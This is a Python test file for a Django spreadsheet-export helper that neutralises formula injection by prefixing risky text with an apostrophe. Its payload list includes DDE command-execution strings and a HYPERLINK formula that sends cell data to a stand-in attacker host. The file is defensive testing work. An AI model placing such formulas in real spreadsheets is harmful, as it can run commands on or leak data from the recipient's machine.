"""Texts in spreadsheets: none can run, and every one comes back as it was."""

import re
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.db import models
from hypothesis import given
from hypothesis import strategies as st

from funnel_site.lib.spreadsheet import (
    SpreadsheetDecimalWidget,
    SpreadsheetIntegerWidget,
    SpreadsheetMomentWidget,
    SpreadsheetResource,
    SpreadsheetTextWidget,
    guard,
    unguard,
)

PAYLOADS = [
    "=1+1",
    "==x",
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "+",
    "-",
    "--1",
    "+62812a",
    "+628123456789\n=1",
    "-5\n",
    "\t=2",
    "\r=2",
    "\n=2",
    "\x00=2",
    "\t",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    ' " =1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("https://evil.example?"&A1,"look")',
    "'=1+1",
    "''=1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_could_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert guard(text) == f"'{text}"
    assert unguard(guard(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Halo kak",
        "1=1",
        "a@b.example",
        "+628123456789",
        "-5",
        "5.25",
        "-0.5",
        "'tis",
        "'",
        "''",
        "(=1)",
        "2025-04-21T10:00:00+07:00",
        "👍",
        "مرحبا",
    ],
)
def test_everything_else_is_left_alone_both_ways(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


@given(st.text(alphabet="'=+-@\t\r\n\x00 \"＝\ufeffa1\u00a0.", max_size=12) | st.text(max_size=50))
def test_unguard_undoes_guard_for_every_text(text: str) -> None:
    assert unguard(guard(text)) == text


@given(st.text(alphabet="'=+-@\t\r\n\x00 \"＝＋－＠a1.", max_size=12))
def test_no_guarded_text_is_a_formula_once_blanks_are_trimmed(text: str) -> None:
    guarded = guard(text)

    trimmed = guarded.lstrip(' "\t\r\n')
    is_number = re.fullmatch(r"\+[0-9]{7,15}|-[0-9]+(\.[0-9]+)?", guarded)
    assert is_number or not trimmed.startswith(tuple("=+-@＝＋－＠\x00"))


class Ledger(models.Model):
    """A table with a column of each kind."""

    name = models.CharField(max_length=50)
    note = models.TextField(null=True)  # noqa: DJ001 - what an export makes of NULL is the point
    email = models.EmailField()
    amount = models.DecimalField(max_digits=20, decimal_places=2, null=True)
    count = models.IntegerField(null=True)
    moment = models.DateTimeField(null=True)

    class Meta:
        app_label = "tests"
        managed = False

    def __str__(self) -> str:
        return self.name


class LedgerResource(SpreadsheetResource):
    class Meta:
        model = Ledger
        fields = ("name", "note", "email", "amount", "count", "moment")
        export_order = fields


def exported(**values: Any) -> list[Any]:
    resource = LedgerResource()
    return [field.export(Ledger(**values)) for field in resource.get_export_fields()]


def test_a_resource_guards_every_text_column_and_only_those() -> None:
    kinds = [type(field.widget) for field in LedgerResource().get_export_fields()]

    assert kinds == [
        SpreadsheetTextWidget,
        SpreadsheetTextWidget,
        SpreadsheetTextWidget,
        SpreadsheetDecimalWidget,
        SpreadsheetIntegerWidget,
        SpreadsheetMomentWidget,
    ]


def test_a_row_is_exported_guarded_plain_and_exact() -> None:
    row = exported(
        name="=1+1",
        note="+628123456789",
        email="@x.example",
        amount=Decimal("1E+6"),
        count=-5_000,
        moment=datetime(2025, 4, 21, 3, 0, 0, 250_000, tzinfo=UTC),
    )

    assert row == [
        "'=1+1",
        "+628123456789",
        "'@x.example",
        "1000000",
        "-5000",
        "2025-04-21T10:00:00.250000+07:00",
    ]


def test_nothing_is_an_empty_cell() -> None:
    assert exported(name="", note=None, email="") == [""] * 6


def test_a_workbook_gets_numbers_that_add_up() -> None:
    widget = SpreadsheetDecimalWidget()

    assert widget.render(Decimal("1250000.50"), force_native_type=True) == Decimal("1250000.50")


def test_text_is_read_back_without_its_guard() -> None:
    widget = SpreadsheetTextWidget()

    assert [widget.clean(text) for text in ["'=1+1", "'tis", "", None]] == ["=1+1", "'tis", "", ""]


@pytest.mark.parametrize(
    ("text", "moment"),
    [
        ("2025-04-21T10:00:00.25+07:00", datetime(2025, 4, 21, 3, 0, 0, 250_000, tzinfo=UTC)),
        ("2025-04-21T03:00:00Z", datetime(2025, 4, 21, 3, tzinfo=UTC)),
        ("2025-04-21T10:00:00", datetime(2025, 4, 21, 3, tzinfo=UTC)),
        ("2025-04-21 10:00:00", datetime(2025, 4, 21, 3, tzinfo=UTC)),
        ("", None),
        (None, None),
    ],
)
def test_times_are_read_back_exactly_and_as_staff_type_them(
    text: str | None, moment: datetime | None
) -> None:
    assert SpreadsheetMomentWidget().clean(text) == moment


def test_a_time_that_is_none_is_refused() -> None:
    with pytest.raises(ValueError, match="parsed"):
        SpreadsheetMomentWidget().clean("next Monday")
